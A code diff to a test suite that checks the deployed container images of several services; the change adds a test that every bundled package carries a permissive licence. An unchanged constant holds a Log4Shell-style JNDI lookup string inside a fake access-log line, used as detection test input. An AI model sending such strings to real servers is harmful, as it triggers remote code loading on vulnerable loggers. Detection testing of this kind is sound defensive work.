@@ -1,5 +1,5 @@
 import { execFile } from 'node:child_process';
-import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
+import { existsSync, globSync, mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join, resolve } from 'node:path';
 import { promisify } from 'node:util';
@@ -15,6 +15,7 @@ import { IMAGES, makeDeployedTrees } from './deployed-trees.ts';
 /** What images hold, run as images run it, but for the container: the output of `pnpm deploy --prod` on real servers. */
 const SERVICES = ['dispatcher', 'scorer', 'gateway', 'ingestor'] as const;
 const KEY = 'vgl_for_the_deployed_test';
+const LICENCES = new Set(['MIT', 'ISC', 'BSD-3-Clause', 'Apache-2.0', '0BSD', 'BlueOak-1.0.0', 'Unlicense']);
 const ATTACK = `203.0.113.9 - - [23/Nov/2026:12:00:00 +0000] "GET /?x=\${jndi:ldap://198.51.100.7/a} HTTP/1.1" 200 12 "-" "curl/8"`;
 
 const run = promisify(execFile);
@@ -96,6 +97,16 @@ test('deployed trees hold JavaScript alone, and none of the packages that only d
     expect(packages.filter((name) => /^(typescript|vitest|oxlint|prettier|vite)@/.test(name))).toEqual([]);
   }
   for (const service of SERVICES) expect(readdirSync(join(work, service))).not.toContain('src');
+});
+
+test('every package in an image comes under a licence that asks for no more than to be kept with it', () => {
+  const packages = IMAGES.flatMap((image) =>
+    globSync(join(work, image, 'node_modules/.pnpm/*/node_modules/{*,@*/*}/package.json')),
+  ).map((path) => JSON.parse(readFileSync(path, 'utf8')) as { name: string; license?: unknown });
+  expect(packages.length).toBeGreaterThan(300);
+  expect(packages.filter(({ license }) => !LICENCES.has(String(license))).map(({ name }) => name)).toEqual([]);
+  expect(readFileSync(join(work, 'runtime/licenses/node.txt'), 'utf8')).toContain('Node.js is licensed');
+  expect(readFileSync(join(work, 'runtime/licenses/vigil.txt'), 'utf8')).toContain('MIT License');
 });
 
 test('an attack that is pushed to the deployed ingestor is told by the deployed gateway', async () => {
